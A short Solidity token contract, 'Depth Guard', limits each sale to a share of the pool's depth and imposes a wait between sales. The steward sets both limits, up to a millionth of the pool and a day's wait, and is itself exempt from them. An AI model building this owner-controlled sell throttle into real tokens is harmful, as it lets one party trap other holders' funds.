// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {MateG, PoolsG} from "./Bases.sol";

/// The largest sale is a share of the pool's depth and a seller waits between sales; the steward sets the divisor in packed settings, up to where a sale is a millionth of the pool.
contract DepthGuard is MateG {
    address private immutable pool;
    address private immutable steward;
    /// From the top: 32 bits of divisor, 32 bits of wait.
    uint256 private _settings = (uint256(4) << 224);
    mapping(address => uint256) public lastSale;

    constructor() MateG("Depth Guard", "DPTH") {
        steward = msg.sender;
        pool = PoolsG.poolOf(address(this));
        _mint(msg.sender, 1_000_000e18);
    }

    function configure(uint256 packed) external {
        require(msg.sender == steward, "steward");
        require(packed >> 224 >= 1 && packed >> 224 <= 1_000_000, "divisor");
        require(uint32(packed >> 192) <= 1 days, "wait");
        _settings = packed;
    }

    function maxSale() public view returns (uint256) {
        return balanceOf[pool] / (_settings >> 224);
    }

    function _move(address from, address to, uint256 amount) internal override {
        if (to == pool && from != steward) {
            require(amount <= maxSale(), "depth");
            require(block.timestamp >= lastSale[from] + uint32(_settings >> 192), "wait");
            lastSale[from] = block.timestamp;
        }
        super._move(from, to, amount);
    }
}
